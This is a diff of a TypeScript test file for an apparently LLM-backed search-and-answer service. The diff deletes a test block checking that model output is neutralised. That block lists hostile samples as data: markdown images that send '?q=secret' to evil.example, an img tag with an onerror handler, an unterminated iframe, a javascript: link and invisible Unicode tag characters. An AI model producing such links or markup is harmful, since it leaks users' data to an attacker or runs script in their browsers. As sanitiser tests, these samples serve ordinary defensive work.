@@ -1,4 +1,4 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, expect, it } from 'vitest';
 
 import { attacks, fact, payloadOf, question, type Attack } from '#extract/attacks.fixture.ts';
 import { extractText } from '#extract/extract.ts';
@@ -6,7 +6,6 @@ import type { SearchIndex } from '#index/search-index.ts';
 import type { ChatProvider } from '#llm/providers.ts';
 import { analyseDocument } from '#text/analyse.ts';
 
-import { inert } from './answer.inert.ts';
 import { createAsk } from './ask.service.ts';
 import { answerPrompt } from './generated.prompt.ts';
 import { onlyChat, openFixture } from './search.fixture.ts';
@@ -129,25 +128,4 @@ it('holds titles, headings and what was said before within the fences as one lin
       'Question: Q?',
     ].join('\n\n'),
   );
-});
-
-describe('what a model writes', () => {
-  const passages = ['See http://good.example/a. Docs: https://docs.example/x?q='];
-
-  it.each([
-    ['an image', 'So ![x](https://evil.example/?q=secret) it is', 'So x it is'],
-    ['an image of a cited address', '![x](http://good.example/a)', '[x](http://good.example/a)'],
-    ['an address that is cited', 'See http://good.example/a.', 'See http://good.example/a.'],
-    ['one that only begins like it', 'http://good.example/ab', 'hxxp://good[.]example/ab'],
-    ['one with something written behind it', '[docs](https://docs.example/x?q=secret)', 'docs'],
-    ['half an image', 'B](//evil.example/x) c', 'B] c'],
-    ['an element', 'a <img src=//evil.example/x onerror=go()> b', 'a  b'],
-    ['an element without an end', 'a <iframe src="//evil.example', 'a '],
-    ['a script as an address', '[k](javascript:alert)', 'k'],
-    ['an address without a scheme', 'www.evil.example/x', 'www[.]evil[.]example/x'],
-    ['an address by reference', '[x]: https://evil.example/q', '[x]: hxxps://evil[.]example/q'],
-    ['invisible characters', 'a\u{e0068}\u{e0069}b', 'ab'],
-  ])('is shown inert: %s', (_, written, shown) => {
-    expect(inert(written, passages)).toBe(shown);
-  });
 });
